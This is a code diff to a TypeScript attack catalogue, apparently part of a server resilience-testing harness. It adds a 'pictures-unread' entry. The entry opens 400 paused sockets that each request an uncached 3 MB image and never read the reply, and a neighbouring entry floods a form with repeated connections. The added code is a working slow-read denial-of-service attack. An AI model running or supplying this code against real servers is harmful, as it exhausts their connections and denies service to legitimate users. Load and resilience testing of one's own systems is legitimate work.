@@ -126,6 +126,26 @@ async function drawAtOnce(target: Target): Promise<string[]> {
   return [];
 }
 
+const PICTURE_READERS = 400;
+
+/** A picture of 3 MB, which is not in the memory's cache. */
+async function prepareUnreadPictures(target: Target) {
+  const [, path = ""] = target.pictures.noise ?? [];
+  const request = headOf(target, `GET ${path}`);
+  const status = await statusFor(target, request, { from: attackerAddress(1), deadlineMs: DEADLINE_MS });
+  if (status !== 200) throw new Error(`The picture cannot be had: ${status}`);
+  return async () => {
+    const sockets = await openSockets(target, PICTURE_READERS);
+    for (const socket of sockets) {
+      socket.pause();
+      socket.write(request);
+      await wait(5);
+    }
+    await holdAndCut(sockets, 5_000);
+    return [];
+  };
+}
+
 export const WAITING: readonly Attack[] = [
   {
     name: "drawings",
@@ -140,6 +160,12 @@ export const WAITING: readonly Attack[] = [
     sent: "20 addresses, each with 240 connections that post a form again as soon as it was refused",
     prepare: (target) => Promise.resolve(() => fillTurns(target)),
     suits: ({ front }) => front === "direct",
+  },
+  {
+    name: "pictures-unread",
+    item: "13",
+    sent: "400 connections that ask for a picture of 3 MB, and do not read it",
+    prepare: prepareUnreadPictures,
   },
   {
     name: "heads-unfinished",
